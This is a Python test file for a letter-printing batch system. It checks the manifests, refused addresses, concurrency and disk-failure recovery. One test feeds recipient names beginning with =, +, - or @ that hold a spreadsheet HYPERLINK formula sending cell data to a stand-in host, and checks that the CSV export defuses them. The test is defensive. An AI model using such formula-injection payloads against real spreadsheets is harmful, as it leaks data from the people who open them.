"""The print batch: what waits is laid out whole, and the print house finds each letter once."""

from __future__ import annotations

import asyncio
import csv
import errno
import os
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
import typst

from portal import clock
from portal.messaging import jobs, print_folder
from portal.messaging.print_folder import LettersNotLaidOut
from portal.messaging.printing import Printed, PrintingAlready, print_letters
from portal.messaging.tables import Attachment, LetterBatch, Message, MessageState
from portal.messaging.undelivered import REFUSED, unsettled
from portal.settings import settings
from tests.messaging.paper import text_of
from tests.messaging.post import a_letter, batches_in, names_in, states
from tests.people import NOON
from tests.working import waiting, work_off


@pytest.fixture(autouse=True)
def folder(database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Where the print house looks, on an empty database."""
    monkeypatch.setenv("LETTERS_DIR", str(tmp_path))
    settings.cache_clear()
    yield tmp_path
    settings.cache_clear()


async def test_letters_are_laid_out_with_a_manifest(folder: Path) -> None:
    ana = await a_letter(["Ana Žagar", "Čufarjeva ulica 2", "2000 Maribor"])
    bojan = await a_letter(name="termination_notice")

    assert await print_letters(NOON) == [Printed("2026-11-21-1", 2)]

    [batch] = batches_in(folder)
    assert (batch.number, batch.messages) == ("2026-11-21-1", [ana, bojan])
    assert [name[:5] for name in batch.files] == ["0001-", "0002-"]
    first, second = batch.manifest["items"]
    assert first["recipient"] == ["Ana Žagar", "Čufarjeva ulica 2", "2000 Maribor"]
    assert (second["template"], second["language"], second["pages"]) == ("termination_notice", "sl", 2)
    assert "Ana Žagar" in text_of(batch.files[first["file"]])
    assert await states() == {ana: MessageState.PRINTED, bojan: MessageState.PRINTED}


async def test_the_manifest_is_there_as_a_table_too(folder: Path) -> None:
    await a_letter(["Ana; Žagar", 'Ulica "pri vrbi" 2', "2000 Maribor"])
    await print_letters(NOON)
    [batch] = batches_in(folder)

    with (folder / batch.number / "manifest.csv").open(encoding="utf-8-sig", newline="") as table:
        [row] = csv.DictReader(table, delimiter=";")

    assert row["recipient"] == 'Ana; Žagar, Ulica "pri vrbi" 2, 2000 Maribor'
    assert row["sha256"] == batch.manifest["items"][0]["sha256"]


@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
async def test_nobody_s_name_is_a_formula_to_a_spreadsheet(folder: Path, begins: str) -> None:
    name = f'{begins}HYPERLINK("http://zlo.example/"&A1)'
    await a_letter([name, "Glavna ulica 1", "1000 Ljubljana"])
    await print_letters(NOON)

    [batch] = batches_in(folder)
    assert batch.manifest["items"][0]["recipient"][0] == name
    with (folder / batch.number / "manifest.csv").open(encoding="utf-8-sig", newline="") as table:
        [row] = csv.DictReader(table, delimiter=";")
    assert row["recipient"] == f"'{name}, Glavna ulica 1, 1000 Ljubljana"
    assert row["pages"] == "1"


async def test_what_was_printed_is_kept_with_the_message(folder: Path) -> None:
    await a_letter()
    await print_letters(NOON)

    [batch] = batches_in(folder)
    [message] = await Message.objects()
    [kept] = await Attachment.objects()
    assert [bytes(kept.content)] == list(batch.files.values())
    assert kept.name.startswith("Drugi opomin")
    assert kept.name.endswith(".pdf")
    assert "obveznosti po prvem opominu še niso poravnane" in message.body


async def test_of_a_secret_only_the_sheet_is_left(folder: Path) -> None:
    await a_letter(name="welcome", is_secret=True)
    await print_letters(NOON)

    [batch] = batches_in(folder)
    [message] = await Message.objects()
    assert "K7QF-2M4X-9TRW" in text_of(next(iter(batch.files.values())))
    assert message.state == MessageState.PRINTED
    assert (message.body is None, message.values) == (True, "{}")
    assert not await Attachment.exists()
    assert "K7QF" not in (folder / batch.number / "manifest.json").read_text()


async def test_nothing_is_made_of_nothing(folder: Path) -> None:
    assert await print_letters(NOON) == []
    assert names_in(folder) == []
    assert not await LetterBatch.exists()


async def test_batches_hold_so_many_and_are_numbered_by_day(folder: Path) -> None:
    letters = [await a_letter() for _ in range(5)]

    await print_letters(NOON, most=2)
    letters.append(await a_letter())
    await print_letters(NOON + timedelta(hours=1))
    letters.append(await a_letter())
    await print_letters(NOON + timedelta(days=1))

    found = batches_in(folder)
    assert [batch.number for batch in found] == [*(f"2026-11-21-{n}" for n in (1, 2, 3, 4)), "2026-11-22-1"]
    assert [message for batch in found for message in batch.messages] == letters


async def test_a_folder_of_another_time_is_left_alone(folder: Path) -> None:
    (folder / "2026-11-21-1").mkdir()
    await a_letter()

    assert await print_letters(NOON) == [Printed("2026-11-21-2", 1)]


@pytest.mark.parametrize(
    ("address", "said"),
    [
        (["Bojan Kralj"], "incomplete"),
        (["Bojan Kralj", "", "1000 Ljubljana"], "incomplete"),
        (["Bojan Kralj", "Glavna ulica 1", " Ljubljana"], "no postcode"),
        (["Bojan Kralj", "Glavna ulica 1", "1000 "], "no postcode"),
        (["Bojan Kralj", "Glavna ulica 1", "1000 Ljubljana", *["vrstica"] * 5], "incomplete"),
        (["Predolgoime" * 12, "Glavna ulica 1", "1000 Ljubljana"], "does not fit the window"),
    ],
)
async def test_a_letter_that_would_reach_nobody_is_refused(folder: Path, address: list[str], said: str) -> None:
    wrong, right = await a_letter(address), await a_letter()

    await print_letters(NOON)

    assert await states() == {wrong: MessageState.REFUSED, right: MessageState.PRINTED}
    [batch] = batches_in(folder)
    assert batch.messages == [right]
    [seen] = await unsettled(REFUSED, NOON)
    assert said in (seen.reason or "")


@pytest.mark.parametrize("broken", [{"values": {}}, {"name": "reconnected"}, {"name": "no_such_message", "values": {}}])
async def test_a_letter_that_cannot_be_written_holds_up_no_other(folder: Path, broken: dict[str, object]) -> None:
    wrong, right = await a_letter(**broken), await a_letter()  # type: ignore[arg-type]

    await print_letters(NOON)

    assert await states() == {wrong: MessageState.REFUSED, right: MessageState.PRINTED}
    assert batches_in(folder)[0].messages == [right]


@pytest.mark.parametrize(
    "passing",
    [
        OSError(errno.EMFILE, os.strerror(errno.EMFILE)),
        MemoryError(),
        RuntimeError("cannot start new thread"),
        typst.TypstError("failed to load file (Too many open files (os error 24))", ""),
    ],
)
async def test_trouble_that_passes_refuses_no_letter(
    folder: Path, monkeypatch: pytest.MonkeyPatch, passing: Exception
) -> None:
    letters = [await a_letter() for _ in range(3)]

    def troubled(*_: object, **__: object) -> bytes:
        raise passing

    with monkeypatch.context() as trouble:
        trouble.setattr(typst, "compile", troubled)
        with pytest.raises(type(passing)):
            await print_letters(NOON)
    assert set((await states()).values()) == {MessageState.QUEUED}

    assert await print_letters(NOON) == [Printed("2026-11-21-1", 3)]
    assert batches_in(folder)[0].messages == letters
    assert names_in(folder) == ["2026-11-21-1"]


async def test_abroad_the_country_stands_last(folder: Path) -> None:
    await a_letter(["Anna Huber", "Hauptplatz 1", "A-9020 Klagenfurt", "AUSTRIA"])

    assert await print_letters(NOON) == [Printed("2026-11-21-1", 1)]


async def test_without_a_printable_letter_there_is_no_batch(folder: Path) -> None:
    wrong = await a_letter(["Bojan Kralj"])

    assert await print_letters(NOON) == []

    assert await states() == {wrong: MessageState.REFUSED}
    assert names_in(folder) == []
    assert not await LetterBatch.exists()


async def test_a_refused_secret_is_forgotten() -> None:
    await a_letter(["Bojan Kralj"], name="welcome", is_secret=True)
    await print_letters(NOON)

    [message] = await Message.objects()
    assert (message.state, message.values) == (MessageState.REFUSED, "{}")


async def test_what_is_too_late_is_not_printed(folder: Path) -> None:
    late = await a_letter(name="welcome", is_secret=True, expires_at=NOON)
    await print_letters(NOON)

    assert await states() == {late: MessageState.EXPIRED}
    assert batches_in(folder) == []


async def test_two_at_once_print_each_letter_once(folder: Path) -> None:
    letters = {await a_letter() for _ in range(6)}

    outcomes = await asyncio.gather(*(print_letters(NOON, most=2) for _ in range(3)), return_exceptions=True)

    assert sum(isinstance(outcome, PrintingAlready) for outcome in outcomes) == 2
    printed = [message for batch in batches_in(folder) for message in batch.messages]
    assert sorted(printed) == sorted(letters)


async def test_a_letter_decided_meanwhile_waits_for_the_next_batch(folder: Path) -> None:
    await a_letter()
    printing = asyncio.create_task(print_letters(NOON))
    late = await a_letter()
    await printing
    await print_letters(NOON)

    assert set(await states()) == {message for batch in batches_in(folder) for message in batch.messages}
    assert late in await states()


async def test_a_folder_that_is_away_loses_nothing(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    letter = await a_letter()
    monkeypatch.setenv("LETTERS_DIR", str(folder / "mount"))
    settings.cache_clear()

    with pytest.raises(LettersNotLaidOut, match="it is not there; make it, or mount it"):
        await print_letters(NOON)

    assert await states() == {letter: MessageState.QUEUED}
    (folder / "mount").mkdir()
    await print_letters(NOON)
    assert batches_in(folder / "mount")[0].messages == [letter]


async def test_a_full_disk_loses_nothing(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    letters = [await a_letter() for _ in range(3)]
    sync, written = os.fsync, 0

    def full(file: int) -> None:
        nonlocal written
        written += 1
        if written == 2:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        sync(file)

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(LettersNotLaidOut, match="No space left on device"):
        await print_letters(NOON)
    assert batches_in(folder) == []
    await print_letters(NOON + timedelta(days=1))

    [batch] = batches_in(folder)
    assert (batch.number, batch.messages) == ("2026-11-21-1", letters)
    assert names_in(folder) == ["2026-11-21-1"]


async def test_demo_batches_are_cleared_and_nothing_else(folder: Path) -> None:
    await a_letter()
    await print_letters(NOON)
    for name in (".2026-11-21-2.3f9a01bc.part", "2026-11-racuni", "kept"):
        (folder / name).mkdir()

    print_folder.clear()

    assert names_in(folder) == ["2026-11-racuni", "kept"]


async def test_the_night_s_run_prints(folder: Path) -> None:
    letter = await a_letter()
    with clock.stopped_at(NOON):
        await jobs.print_tonight()
        await jobs.print_tonight()
        await work_off()

    assert batches_in(folder)[0].messages == [letter]
    assert await waiting() == []


async def test_the_night_s_run_tries_again_while_the_folder_is_away(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await a_letter()
    monkeypatch.setenv("LETTERS_DIR", str(folder / "mount"))
    settings.cache_clear()
    await jobs.print_tonight()

    with pytest.raises(LettersNotLaidOut):
        await work_off()
    assert await waiting() == ["messaging.print_letters"]
    (folder / "mount").mkdir()
    await work_off(later=True)

    assert len(batches_in(folder / "mount")) == 1
